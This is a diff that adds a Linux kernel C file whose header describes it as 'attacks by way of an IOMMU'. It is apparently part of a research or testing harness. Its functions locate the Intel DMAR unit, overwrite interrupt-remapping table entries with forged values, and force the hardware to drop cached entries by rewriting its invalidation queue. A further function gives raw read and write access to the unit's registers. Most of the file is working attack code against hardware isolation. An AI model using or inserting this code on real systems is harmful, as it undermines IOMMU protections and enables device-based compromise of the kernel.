@@ -1,0 +1,135 @@
+// SPDX-License-Identifier: GPL-2.0-only
+/* Attacks by way of an IOMMU of Intel's kind, whose tables and queue are Linux's. */
+#include <linux/acpi.h>
+#include <linux/io.h>
+#include <linux/iopoll.h>
+#include <linux/slab.h>
+#include <linux/stop_machine.h>
+
+#include "iommu.h"
+
+#define QUEUE_HEAD	0x80
+#define QUEUE_TAIL	0x88
+#define QUEUE_ADDRESS	0x90
+#define QUEUE_WIDE	BIT(11)
+#define QUEUE_SIZE	GENMASK(2, 0)
+#define TABLE		0xb8
+#define TABLE_SIZE	GENMASK(3, 0)
+#define ADDRESS		GENMASK_ULL(63, 12)
+
+/* Descriptors: all entries for interrupts, a wait that stores 1. */
+#define INTERRUPTS	4
+#define WAIT		(5 | BIT(5) | BIT_ULL(32))
+
+struct unit {
+	void __iomem *registers;
+	u64 stored;
+	int error;
+};
+
+/* Maps the registers of the first unit that the firmware lists. */
+static void __iomem *map_unit(void)
+{
+	const struct acpi_dmar_hardware_unit *unit;
+	struct acpi_table_header *table;
+	void __iomem *registers = NULL;
+
+	if (ACPI_FAILURE(acpi_get_table(ACPI_SIG_DMAR, 0, &table)))
+		return NULL;
+	unit = (void *)table + sizeof(struct acpi_table_dmar);
+	if (unit->header.type == ACPI_DMAR_TYPE_HARDWARE_UNIT)
+		registers = ioremap(unit->address, PAGE_SIZE);
+	acpi_put_table(table);
+	return registers;
+}
+
+static int move_tail(struct unit *unit, u64 tail)
+{
+	u64 head;
+
+	writel(tail, unit->registers + QUEUE_TAIL);
+	return readq_poll_timeout_atomic(unit->registers + QUEUE_HEAD, head, head == tail, 1,
+					 100000);
+}
+
+/*
+ * Has the unit forget all entries for interrupts. The queue goes round once, so that Linux finds
+ * its tail where it was. No CPU of Linux uses it meanwhile.
+ */
+static int forget_all(void *data)
+{
+	struct unit *unit = data;
+	u64 address = readq(unit->registers + QUEUE_ADDRESS);
+	u64 tail = readl(unit->registers + QUEUE_TAIL);
+	u64 step = address & QUEUE_WIDE ? 32 : 16;
+	u64 size = PAGE_SIZE << (address & QUEUE_SIZE), offset;
+	void *queue = __va(address & ADDRESS);
+
+	for (offset = 0; offset < size; offset += step) {
+		u64 *descriptor = queue + (tail + offset) % size;
+
+		memset(descriptor, 0, step);
+		descriptor[0] = offset ? WAIT : INTERRUPTS;
+		descriptor[1] = offset ? __pa(&unit->stored) : 0;
+	}
+	unit->error = move_tail(unit, (tail + size - step) % size) ?: move_tail(unit, tail);
+	return 0;
+}
+
+/**
+ * attack_remapping() - forge an entry for interrupts, and tell the unit
+ * @index: which one
+ * @low: its low half
+ * @high: its high half
+ *
+ * Context: Process.
+ * Return: 0 or a negative error.
+ */
+int attack_remapping(unsigned int index, u64 low, u64 high)
+{
+	struct unit *unit;
+	u64 table, *entry;
+	int error = -ENODEV;
+
+	/* The unit stores there. */
+	unit = kzalloc(sizeof(*unit), GFP_KERNEL);
+	if (!unit)
+		return -ENOMEM;
+	unit->registers = map_unit();
+	if (!unit->registers)
+		goto out;
+	table = readq(unit->registers + TABLE);
+	error = -EINVAL;
+	if (index < 2u << (table & TABLE_SIZE)) {
+		entry = __va(table & ADDRESS) + 16ul * index;
+		WRITE_ONCE(entry[1], high);
+		WRITE_ONCE(entry[0], low);
+		error = stop_machine(forget_all, unit, NULL) ?: unit->error;
+	}
+	iounmap(unit->registers);
+out:
+	kfree(unit);
+	return error;
+}
+
+/**
+ * attack_unit() - access 32 bits of the unit's registers
+ * @offset: which
+ * @value: what to write, or NULL
+ * @result: what is read
+ *
+ * Context: Process.
+ * Return: 0 or a negative error.
+ */
+int attack_unit(unsigned int offset, const u64 *value, u32 *result)
+{
+	void __iomem *registers = map_unit();
+
+	if (!registers)
+		return -ENODEV;
+	if (value)
+		writel(*value, registers + (offset & 0xffc));
+	*result = readl(registers + (offset & 0xffc));
+	iounmap(registers);
+	return 0;
+}
